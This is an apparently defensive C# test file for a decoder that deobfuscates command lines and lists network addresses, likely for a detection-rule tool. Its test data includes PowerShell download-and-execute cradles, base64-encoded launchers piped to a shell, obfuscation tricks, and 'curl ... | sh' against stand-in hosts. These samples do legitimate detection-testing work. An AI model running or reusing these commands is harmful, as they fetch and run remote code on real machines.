using System.Collections.Immutable;
using System.IO.Compression;
using System.Text;
using SigmaFunctions.Pages.Decoding;

namespace SigmaFunctions.Pages.Tests.Decoding;

/// <summary>What is read out of values, and what is left as it is.</summary>
public sealed class ValueDecoderTests
{
    private const string Download = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')";

    [Theory]
    [InlineData("powershell -enc {utf16}")]
    [InlineData("powershell.exe -NoP -w hidden -EncodedCommand {utf16}")]
    [InlineData("pwsh /e {utf16} & exit")]
    [InlineData("$x='{utf16}'; [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($x))")]
    [InlineData("echo {utf8}|base64 -d|sh")]
    [InlineData("python3 -c \"exec(__import__('base64').b64decode('{utf8}'))\"")]
    [InlineData("IEX (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{gzip}')))))")]
    [InlineData("New-Object IO.Compression.DeflateStream([Convert]::FromBase64String('{deflate}'))")]
    public void Base64_of_text_is_read(string command)
    {
        string value = command
            .Replace("{utf16}", Convert.ToBase64String(Encoding.Unicode.GetBytes(Download)), StringComparison.Ordinal)
            .Replace("{utf8}", Convert.ToBase64String(Encoding.UTF8.GetBytes(Download)), StringComparison.Ordinal)
            .Replace("{gzip}", Convert.ToBase64String(Compressed(Download, stream => new GZipStream(stream, CompressionLevel.Fastest))), StringComparison.Ordinal)
            .Replace("{deflate}", Convert.ToBase64String(Compressed(Download, stream => new DeflateStream(stream, CompressionLevel.Fastest))), StringComparison.Ordinal);

        DecodedPart part = Assert.Single(ValueDecoder.Decode(value).Parts);

        Assert.Equal(Download, part.Text);
        Assert.DoesNotContain(value.Substring(part.Place.Start, part.Place.Length), c => char.IsWhiteSpace(c) || c == '\'');
        Assert.False(part.IsCut);
    }

    [Theory]
    [InlineData("c^m^d /c p^owe^rshell", "cmd /c powershell")]
    [InlineData("po\"\"wer\"\"shell -c whoami", "powershell -c whoami")]
    [InlineData("I`E`X (N`ew-Obj`ect)", "IEX (New-Object)")]
    [InlineData("&('In'+'vo'+'ke-Expression')", "&('Invoke-Expression')")]
    [InlineData("http://203.0.113.7/%77%68%6f%61%6d%69", "http://203.0.113.7/whoami")]
    [InlineData("IEX([char]119+[char]104+[char]0x6f+[char]97+[char]109+[char]105)", "whoami")]
    public void Noise_is_taken_away(string value, string plain) => Assert.Equal(plain, Assert.Single(ValueDecoder.Decode(value).Parts).Text);

    [Theory]
    [InlineData(@"C:\Windows\System32\ApplicationFrameHost.exe -Embedding")]
    [InlineData("svchost.exe -k LocalServiceNetworkRestricted -p -s lmhosts")]
    [InlineData("{5a1e0f3b-03eb-6744-0000-001000000000}")]
    [InlineData("SHA256=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")]
    [InlineData("\"C:\\Program Files\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdateCore.exe\" /installsource scheduler")]
    [InlineData("/usr/lib/systemd/systemd-networkd-wait-online-service --any")]
    [InlineData("for /f %i in (list.txt) do echo %i%PATH%TEMP%")]
    [InlineData("git commit -m 'it''s done'")]
    [InlineData("findstr ^a b")]
    [InlineData("echo \"\"")]
    [InlineData("-Certificate MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJRTESMBAGA1UEChMJQmFsdGltb3Jl")]
    [InlineData("")]
    public void What_is_something_else_is_left(string value) => Assert.Empty(ValueDecoder.Decode(value).Parts);

    [Fact]
    public void What_was_decoded_is_looked_at_again_so_often_and_no_more()
    {
        string value = Download;
        for (int i = 0; i < ValueDecoder.MaxDepth + 2; i++)
        {
            value = "powershell -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes(value));
        }

        ImmutableArray<DecodedPart> parts = ValueDecoder.Decode(value).Parts;

        Assert.Equal(ValueDecoder.MaxDepth, Assert.Single(parts).All.Count());
    }

    [Fact]
    public void A_small_value_that_unpacks_to_much_is_cut()
    {
        string value = Convert.ToBase64String(Compressed(new string('a', 10_000_000), stream => new GZipStream(stream, CompressionLevel.SmallestSize)));

        DecodedPart part = Assert.Single(ValueDecoder.Decode(value).Parts);

        Assert.True(part.IsCut);
        Assert.Equal(ValueDecoder.MaxText, part.Text.Length);
    }

    [Fact]
    public void Whatever_a_value_holds_its_parts_lie_within_it()
    {
        var random = new Random(3);
        string[] pieces = ["^", "`", "\"\"", "''", "%41", "%", "[char]", "65", "0x41", "+", "'+'", "QUJDREVGR0hJSktMTU5PUFFSU1Q=", "H4sIAAAAAAAA", "=", "a", "Z", " ", "\U0001F600", "\0", "\uD800", "http://"];
        for (int i = 0; i < 3_000; i++)
        {
            string value = string.Concat(Enumerable.Range(0, random.Next(60)).Select(_ => pieces[random.Next(pieces.Length)]));

            ImmutableArray<DecodedPart> parts = ValueDecoder.Decode(value).Parts;

            Assert.All(parts, part => Assert.InRange(part.Place.End, part.Place.Start + 1, value.Length));
            Assert.InRange(parts.Sum(part => part.All.Count()), 0, ValueDecoder.MaxParts);
            NetworkNames.In(value);
        }
    }

    [Fact]
    public void Archives_in_archives_are_read_up_to_a_bound_of_all_together()
    {
        string value = new('a', 30_000);
        for (int depth = 0; depth < ValueDecoder.MaxDepth; depth++)
        {
            value = string.Join(' ', Enumerable.Repeat(Convert.ToBase64String(Compressed(value, stream => new GZipStream(stream, CompressionLevel.SmallestSize))), 8));
        }

        DecodedValue decoded = ValueDecoder.Decode(value);

        Assert.True(decoded.IsPartial);
        Assert.InRange(decoded.Parts.SelectMany(part => part.All).Sum(part => part.Text.Length), 1, ValueDecoder.MaxDecoded);
    }

    [Theory]
    [InlineData("SHA256=00000000000000000000000000000000,IMPHASH=00000000000000000000000000000000")]
    [InlineData("{00000000-0000-0000-00000000000C04A2}")]
    public void Numbers_are_no_archives(string value) => Assert.Empty(ValueDecoder.Decode(value).Parts);

    [Fact]
    public void A_long_value_takes_no_longer_than_its_beginning()
    {
        string value = string.Concat(Enumerable.Repeat("[char]65+^a`b''c%41 QUJDREVGR0hJSktMTU5PUFFSU1Q=", 100_000));

        Assert.InRange(ValueDecoder.Decode(value).Parts.Length, 1, ValueDecoder.MaxParts);
    }

    [Theory]
    [InlineData("curl http://203.0.113.77/i.sh | sh", "http://203.0.113.77/i.sh")]
    [InlineData("connect 203.0.113.7:443 and hxxps://evil[.]example/x.", "203.0.113.7 hxxps://evil[.]example/x")]
    [InlineData("ping 203[.]0[.]113[.]9", "203[.]0[.]113[.]9")]
    [InlineData("version 10.0.19041.1 of 999.1.1.1", "")]
    [InlineData("http://a.example http://A.example", "http://a.example")]
    public void Addresses_are_listed(string value, string names) => Assert.Equal(names, string.Join(' ', NetworkNames.In(value)));

    private static byte[] Compressed(string text, Func<Stream, Stream> compress)
    {
        using var output = new MemoryStream();
        using (Stream stream = compress(output))
        {
            stream.Write(Encoding.UTF8.GetBytes(text));
        }

        return output.ToArray();
    }
}
